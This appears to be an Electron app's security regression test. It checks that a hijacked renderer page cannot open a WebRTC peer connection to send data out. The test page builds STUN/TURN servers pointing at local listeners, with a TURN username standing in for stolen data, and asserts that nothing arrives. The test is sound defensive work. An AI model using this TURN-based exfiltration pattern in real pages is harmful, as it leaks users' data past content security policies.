// Attack: the window's page was taken over and opens a peer connection, which no content security policy and no request filter sees.
// Impact: it sends what it sees to any address, in the name of a server it asks for help. Mitigation: electron/hardening/session-rules.ts,
// contents-rules.ts (no-peer-connections): nothing but a proxy, and that proxy leads nowhere.
import { createSocket, type Socket } from 'node:dgram';
import { createServer, type AddressInfo, type Server } from 'node:net';
import type { Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { build } from '../../scripts/build.ts';
import { createDesktop, type Desktop } from '../desktop/desktop.ts';
import { startApp } from '../e2e/drive/app-process.ts';

describe('a peer connection of a page that was taken over', () => {
  let desktop: Desktop;
  let page: Page;
  let udp: Socket;
  let tcp: Server;
  const reached: string[] = [];

  beforeAll(async () => {
    udp = createSocket('udp4', () => reached.push('udp'));
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
    tcp = createServer((socket) => {
      reached.push('tcp');
      socket.destroy();
    });
    await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
    desktop = await createDesktop({ keyring: 'none' });
    await build();
    const app = await startApp({
      desktop,
      home: `${desktop.folder}/stint`,
      brokerUrl: 'http://127.0.0.1:9',
    });
    page = await app.open();
    await page.waitForFunction(() => document.readyState === 'complete');
  });
  afterAll(async () => {
    await desktop.stop();
    udp.close();
    tcp.close();
  });

  it('reaches nobody, neither by UDP nor by TCP', async () => {
    // A server that listens on a port has an address of this kind.
    const tcpPort = (tcp.address() as AddressInfo).port;
    // Its search for a way out is over only once each server has answered or been given up.
    await page.evaluate(
      async ([udpAt, tcpAt]) => {
        const servers: RTCIceServer[] = [
          { urls: `stun:127.0.0.1:${String(udpAt)}` },
          { urls: `turn:127.0.0.1:${String(udpAt)}`, username: 'what-it-saw', credential: 'x' },
          { urls: `turn:127.0.0.1:${String(tcpAt)}?transport=tcp`, username: 'what-it-saw', credential: 'x' },
        ];
        const peer = new RTCPeerConnection({ iceServers: servers });
        peer.createDataChannel('out');
        const gathered = new Promise((resolve) => {
          peer.onicegatheringstatechange = () => {
            if (peer.iceGatheringState === 'complete') resolve('complete');
          };
        });
        await peer.setLocalDescription(await peer.createOffer());
        return gathered;
      },
      [udp.address().port, tcpPort] as const,
    );
    expect(reached).toEqual([]);
  });
});
